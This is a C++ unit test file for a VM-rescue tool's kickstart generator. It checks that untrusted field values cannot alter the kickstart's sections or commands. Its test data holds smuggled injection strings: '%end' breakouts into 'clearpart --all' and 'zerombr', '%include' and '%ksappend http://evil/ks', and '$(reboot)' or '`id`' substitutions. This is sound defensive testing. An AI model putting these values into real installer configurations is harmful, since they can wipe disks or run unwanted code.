// Everything read from the old disk is untrusted: strings with line
// breaks (also the ones only pykickstart sees), %end, %include, %pre,
// quotes, $() and backticks put into every field that reaches the
// kickstart never change its sections or commands, as read by the
// project's own reader of pykickstart's section rules (ks_reader.hpp). A
// value a command line cannot carry is refused with the field's name; a
// value that reaches the restore script is carried (the VM is still
// rescued). Where KVMR_KSVALIDATOR names pykickstart's ksvalidator, the
// hostile kickstarts are checked with it too.
#include "kickstart/ks_reader.hpp"
#include "kickstart/pre_check.hpp"
#include "kickstart/render.hpp"
#include "kickstart/restore.hpp"
#include "kickstart/safety.hpp"
#include "rescue/util/error.hpp"
#include "unit/kickstart/ks_test_util.hpp"

#include <doctest/doctest.h>

#include <cstdio>
#include <fstream>
#include <functional>
#include <random>
#include <string>
#include <tuple>
#include <unistd.h>
#include <vector>

using namespace kvmr::kickstart; // NOLINT(google-build-using-namespace)

namespace {

// Pieces a hostile value is made of: each way a line can end for bash or
// for pykickstart (Python's splitlines), each section word, with and
// without leading blanks (Python's lstrip takes U+3000 and U+00A0 too).
const std::vector<std::string> kPieces = {
    "\n",
    "\r",
    "\r\n",
    "\v",
    "\f",
    "\x1c",
    "\xc2\x85",
    "\xe2\x80\xa8",
    "\xe2\x80\xa9",
    "%end",
    "  %end",
    "\t%end",
    "\xe3\x80\x80%end",
    "\xc2\xa0%end",
    "%include /tmp/x",
    "%ksappend http://x/ks",
    "%pre",
    "%post",
    "%packages",
    "clearpart --all --initlabel",
    "zerombr",
    "'",
    "\"",
    "\\",
    "$(touch /tmp/pwned)",
    "`id`",
    "ウェブ",
    "web01",
    " ",
    "#",
    ";",
    "KVMR_EOF",
    "KVMR_B64",
    "--all",
    "-x",
};

std::vector<std::string> hostile_values() {
  std::vector<std::string> out = {
      "x\n  %end\nclearpart --all --initlabel\n%post\necho owned",
      "x\r%end\rclearpart --all",
      "x\xe2\x80\xa8%end\xe2\x80\xa8zerombr",
      "\n%include /tmp/evil.ks",
      "\n\t%ksappend http://evil/ks",
      "a\"b'c$(reboot)`id`",
  };
  std::mt19937 rng(20261207); // fixed: the same cases every run
  std::uniform_int_distribution<std::size_t> piece(0, kPieces.size() - 1);
  std::uniform_int_distribution<int> count(1, 6);
  for (int i = 0; i < 40; ++i) {
    std::string v;
    for (int n = count(rng); n > 0; --n) {
      v += kPieces[piece(rng)];
    }
    out.push_back(v);
  }
  return out;
}

// A kickstart's shape: each command's name and option names, each
// section header and end (bodies left out: their length follows the data).
std::vector<std::string> shape_of(const std::string &ks) {
  const KsRead r = read_kickstart(ks);
  std::vector<std::string> out = r.problems;
  for (const auto &e : r.elements) {
    if (e.kind == KsKind::body) {
      continue;
    }
    std::string s = std::string(to_string(e.kind)) + ":";
    const auto words = split_ks_line(e.text);
    for (const auto &w : words) {
      if (&w == &words.front() || w.rfind("--", 0) == 0) {
        s += " " + w.substr(0, w.find('='));
      }
    }
    out.push_back(s);
  }
  return out;
}

using ProfileField = std::function<void(Profile &, const std::string &)>;
using SpecField = std::function<void(RestoreSpec &, const std::string &)>;

std::vector<std::pair<std::string, ProfileField>> profile_fields() {
  return {
      {"network device", [](Profile &p, const std::string &v) { p.network[0].device = v; }},
      {"bridge port", [](Profile &p, const std::string &v) { p.network[0].bridge_slaves = {v}; }},
      {"ip", [](Profile &p, const std::string &v) { p.network[0].ip = v; }},
      {"netmask", [](Profile &p, const std::string &v) { p.network[0].netmask = v; }},
      {"gateway", [](Profile &p, const std::string &v) { p.network[0].gateway = v; }},
      {"nameserver", [](Profile &p, const std::string &v) { p.network[0].nameservers = {v}; }},
      {"time zone", [](Profile &p, const std::string &v) { p.timezone = v; }},
      {"language", [](Profile &p, const std::string &v) { p.lang = v; }},
      {"keyboard", [](Profile &p, const std::string &v) { p.keyboard = v; }},
      {"X11 layout", [](Profile &p, const std::string &v) { p.x11_layout = v; }},
      {"SSH key", [](Profile &p, const std::string &v) { p.root_keys = {v}; }},
      {"admin's SSH key", [](Profile &p, const std::string &v) { p.admins[0].ssh_keys = {v}; }},
      {"admin's full name", [](Profile &p, const std::string &v) { p.admins[0].gecos = v; }},
      {"sudoers.d text", [](Profile &p, const std::string &v) { p.sudoers[0].content = v; }},
      {"data VG", [](Profile &p, const std::string &v) { p.data_disks[0].vg = v; }},
      {"data mount point",
       [](Profile &p, const std::string &v) { p.data_disks[0].mountpoint = v; }},
      {"data partition", [](Profile &p, const std::string &v) { p.data_disks[0].partition = v; }},
      {"data fs UUID", [](Profile &p, const std::string &v) { p.data_disks[0].fs_uuid = v; }},
  };
}

RestoreSpec clean_spec() {
  RestoreSpec s;
  s.secrets.push_back({"8f2b", "/p/secrets/8f2b.xml", "/p/secrets/8f2b.base64"});
  s.pools.push_back({"default", "/p/storage/default.xml", true});
  s.networks.push_back({"default", "/p/networks/default.xml", true});
  s.nvram.push_back({"/p/nvram/web01_VARS.fd", "/var/lib/libvirt/qemu/nvram/web01_VARS.fd"});
  s.domains.push_back({"web01", "/p/qemu/web01.xml", true});
  s.snapshots.push_back({"web01", "before", "/p/snapshot/web01/before.xml", ""});
  return s;
}

std::vector<std::pair<std::string, SpecField>> spec_fields() {
  return {
      {"domain name", [](RestoreSpec &s, const std::string &v) { s.domains[0].name = v; }},
      {"domain XML path", [](RestoreSpec &s, const std::string &v) { s.domains[0].xml += v; }},
      {"network name", [](RestoreSpec &s, const std::string &v) { s.networks[0].name = v; }},
      {"pool name", [](RestoreSpec &s, const std::string &v) { s.pools[0].name = v; }},
      {"secret UUID", [](RestoreSpec &s, const std::string &v) { s.secrets[0].uuid = v; }},
      {"NVRAM path", [](RestoreSpec &s, const std::string &v) { s.nvram[0].to += v; }},
      {"snapshot name", [](RestoreSpec &s, const std::string &v) { s.snapshots[0].name = v; }},
      {"snapshot parent", [](RestoreSpec &s, const std::string &v) { s.snapshots[0].parent = v; }},
      {"snapshot domain", [](RestoreSpec &s, const std::string &v) { s.snapshots[0].domain = v; }},
  };
}

std::string render_with(const Profile &p, const RestoreSpec &s) {
  return render(p, {render_restore_script(s), render_restore_unit(s)});
}

// pykickstart's own verdict, where KVMR_KSVALIDATOR names it.
void cross_check(const std::string &ks, const Profile &p) {
  const std::string v = test::ksvalidator();
  if (v.empty()) {
    return;
  }
  char name[] = "/tmp/kvmr-hostile-XXXXXX";
  const int fd = ::mkstemp(name);
  REQUIRE(fd >= 0);
  ::close(fd);
  std::ofstream(name) << ks;
  const auto r = test::sh(v + " -v " +
                          std::string(to_string(p.dialect) == std::string("el7")   ? "RHEL7"
                                      : to_string(p.dialect) == std::string("el8") ? "RHEL8"
                                                                                   : "RHEL9") +
                          " " + name);
  ::unlink(name);
  INFO(r.out);
  CHECK(r.status == 0);
}

} // namespace

TEST_CASE("hostile values in the host's fields never change the kickstart's commands") {
  for (const Dialect d : {Dialect::el7, Dialect::el9}) {
    for (const auto &[field, set] : profile_fields()) {
      // The same field with a plain value: what the kickstart must look like.
      Profile clean = test::story_profile(d);
      set(clean, "plain1");
      const auto clean_shape = shape_of(render_with(clean, clean_spec()));
      for (const auto &v : hostile_values()) {
        CAPTURE(field);
        CAPTURE(v);
        Profile p = clean;
        set(p, v);
        std::string ks;
        try {
          ks = render_with(p, clean_spec());
        } catch (const kvmr::InputError &e) {
          // Refused: only for a value a command line cannot carry (or
          // would read as an option), and the message says which field.
          const bool account = field.rfind("admin", 0) == 0 || field == "SSH key";
          CHECK((has_line_break_or_control(v) || v.front() == '-' ||
                 (account && v.find(':') != std::string::npos)));
          CHECK((account || std::string(e.what()).find('"') != std::string::npos));
          continue;
        }
        CHECK(shape_of(ks) == clean_shape);
        CHECK(check_safety(ks, p).empty());
      }
    }
  }
}

TEST_CASE("a hash, account or group name outside what the installer takes is refused") {
  // The rules, written here independently: crypt(3)'s alphabet, useradd's
  // NAME_REGEX ([a-z_][a-z0-9_-]*, at most 32), the names sudo reads in
  // sudoers.d.
  const auto only = [](const std::string &v, const std::string &chars) {
    return v.find_first_not_of(chars) == std::string::npos;
  };
  const std::string lower = "abcdefghijklmnopqrstuvwxyz";
  const std::string upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ";
  const std::string digits = "0123456789";
  const auto crypt_alphabet = [&](const std::string &v) {
    return only(v, lower + upper + digits + "./$");
  };
  const auto user_name = [&](const std::string &v) { // v starts with 'x' here
    return v.size() <= 32 && only(v, lower + digits + "_-");
  };
  const auto sudoers_name = [&](const std::string &v) {
    return only(v, lower + upper + digits + "_-");
  };
  const auto refused = [](Profile p, const char *why) {
    CHECK_THROWS_WITH_AS(render(p, {}), doctest::Contains(why), kvmr::InputError);
  };
  int refusals = 0;
  for (const auto &v : hostile_values()) {
    CAPTURE(v);
    const Profile clean = test::story_profile(Dialect::el7);
    if (!crypt_alphabet(v)) {
      Profile p = clean;
      p.root_hash = "$6$salt$" + v;
      refused(p, "root is not a crypt(3) hash");
      p = clean;
      p.admins[0].hash = "$6$salt$" + v;
      refused(p, "account alice is not");
      ++refusals;
    }
    if (!user_name("x" + v)) {
      Profile p = clean;
      p.admins[0].name = "x" + v;
      refused(p, "not a name the installer");
      p = clean;
      p.admins[0].groups = {"wheel", "x" + v};
      refused(p, "is not a name groupadd takes");
    }
    if (!sudoers_name("10" + v)) {
      Profile p = clean;
      p.sudoers[0].name = "10" + v;
      refused(p, "not a name sudo reads");
    }
  }
  CHECK(refusals > 30);
}

TEST_CASE("hostile names reaching the restore script are carried, the kickstart unchanged") {
  const Profile p = test::story_profile(Dialect::el7);
  const auto clean_shape = shape_of(render_with(p, clean_spec()));
  bool checked_once = false;
  for (const auto &[field, set] : spec_fields()) {
    for (const auto &v : hostile_values()) {
      CAPTURE(field);
      CAPTURE(v);
      RestoreSpec s = clean_spec();
      set(s, v);
      const std::string ks = render_with(p, s);
      CHECK(shape_of(ks) == clean_shape);
      if (!checked_once && v.find("%end") != std::string::npos) {
        cross_check(ks, p);
        checked_once = true;
      }
    }
  }
}

TEST_CASE("the reader follows pykickstart: indented and Unicode-blank %end closes a section") {
  for (const std::string end : {"%end", "  %end", "\t%end", "\xe3\x80\x80%end", "%end  # x"}) {
    CAPTURE(end);
    const KsRead r = read_kickstart("text\n%post\necho a\n" + end + "\nzerombr\n");
    REQUIRE(r.elements.size() == 5);
    CHECK(r.elements[3].kind == KsKind::end);
    CHECK(r.elements[4].kind == KsKind::command);
    CHECK(r.elements[4].text == "zerombr");
  }
  // Lines end where Python's splitlines ends them.
  for (const std::string br : {"\r", "\v", "\f", "\x1c", "\xc2\x85", "\xe2\x80\xa8"}) {
    CAPTURE(br);
    const KsRead r = read_kickstart("%post\necho a" + br + "%end\nzerombr\n");
    REQUIRE(r.elements.size() == 4);
    CHECK(r.elements[2].kind == KsKind::end);
  }
  // Words that are not sections stay in the body; %ksappend never does.
  const KsRead r = read_kickstart("%post\n%endx\n 50%\n  %ksappend x\n%end\n");
  REQUIRE(r.elements.size() == 5);
  CHECK(r.elements[1].kind == KsKind::body);
  CHECK(r.elements[2].kind == KsKind::body);
  CHECK(r.elements[3].kind == KsKind::ksappend);
  CHECK(read_kickstart("lang \xff\n").problems.size() == 1); // not UTF-8
}

TEST_CASE("check_safety sees commands after an indented %end, and every %include") {
  const std::string ks = render(test::story_profile(Dialect::el7), {});
  const auto safe = check_safety(ks, test::story_profile(Dialect::el7));
  CHECK(safe.empty());
  const std::string evil = ks + "%post\necho\n  %end\nclearpart --all --initlabel\n";
  std::string all;
  for (const auto &x : check_safety(evil, test::story_profile(Dialect::el7))) {
    all += x + "\n";
  }
  CHECK(all.find("clearpart without --drives") != std::string::npos);
  const std::string inc = ks + "%post\n  %include /tmp/x\n%end\n";
  CHECK_FALSE(check_safety(inc, test::story_profile(Dialect::el7)).empty());
}

namespace {

// The %pre script's last lines (after its functions), run by bash with
// the check functions replaced by one printing its arguments: every value
// must arrive as exactly one argument, and nothing else may run.
std::vector<std::string> pre_check_args(const Profile &p) {
  const std::string script = pre_check_script(p);
  const std::size_t calls = script.rfind("\n}\n") + 3;
  const std::string stub = "kvmr_dev() { printf '%s' \"$1\"; }\n"
                           "kvmr_check_fs() { printf '%s\\0' \"$@\"; }\n"
                           "kvmr_check_lv() { printf '%s\\0' \"$@\"; }\n"
                           "kvmr_check_md() { printf '%s\\0' \"$@\"; }\n";
  char name[] = "/tmp/kvmr-pre-XXXXXX";
  const int fd = ::mkstemp(name);
  REQUIRE(fd >= 0);
  ::close(fd);
  std::ofstream(name) << stub << script.substr(calls);
  const auto r = test::sh(std::string("bash ") + name);
  ::unlink(name);
  REQUIRE(r.status == 0);
  std::vector<std::string> out;
  for (std::size_t pos = 0; pos < r.out.size();) {
    const std::size_t end = r.out.find('\0', pos);
    REQUIRE(end != std::string::npos);
    out.push_back(r.out.substr(pos, end - pos));
    pos = end + 1;
  }
  return out;
}

} // namespace

TEST_CASE("hostile values reaching the %pre check arrive as one word each, or are refused") {
  using Set = std::function<void(DataDisk &, const std::string &)>;
  const std::vector<std::tuple<std::string, Profile, Set>> cases = {
      {"partition", test::story_profile(Dialect::el7),
       [](DataDisk &d, const std::string &v) { d.partition = v; }},
      {"fs UUID", test::story_profile(Dialect::el8),
       [](DataDisk &d, const std::string &v) { d.fs_uuid = v; }},
      {"VG", test::lvm_profile(Dialect::el9), [](DataDisk &d, const std::string &v) { d.vg = v; }},
      {"LV", test::lvm_profile(Dialect::el7), [](DataDisk &d, const std::string &v) { d.lv = v; }},
      {"md", test::md_profile(Dialect::el8), [](DataDisk &d, const std::string &v) { d.md = v; }},
  };
  for (const auto &[field, clean, set] : cases) {
    const auto clean_shape = shape_of(render(clean, {}));
    for (const auto &v : hostile_values()) {
      CAPTURE(field);
      CAPTURE(v);
      Profile p = clean;
      set(p.data_disks[0], v);
      if (has_line_break_or_control(v)) {
        CHECK_THROWS_AS(pre_section(p), kvmr::InputError);
        CHECK_THROWS_AS(render(p, {}), kvmr::InputError);
        continue;
      }
      const DataDisk &d = p.data_disks[0];
      const std::string state = "kvm-rescue";
      const std::vector<std::string> want =
          d.kind == DataKind::lvm ? std::vector<std::string>{d.vg, d.lv, d.fs_uuid, d.fstype, state}
          : d.kind == DataKind::md
              ? std::vector<std::string>{d.md, d.fs_uuid, d.fstype, state}
              : std::vector<std::string>{d.partition, d.fs_uuid, d.fstype, state};
      CHECK(pre_check_args(p) == want);
      std::string ks;
      try {
        ks = render(p, {});
      } catch (const kvmr::InputError &) {
        CHECK(v.front() == '-'); // a positional value read as an option
        continue;
      }
      CHECK(shape_of(ks) == clean_shape);
    }
  }
}
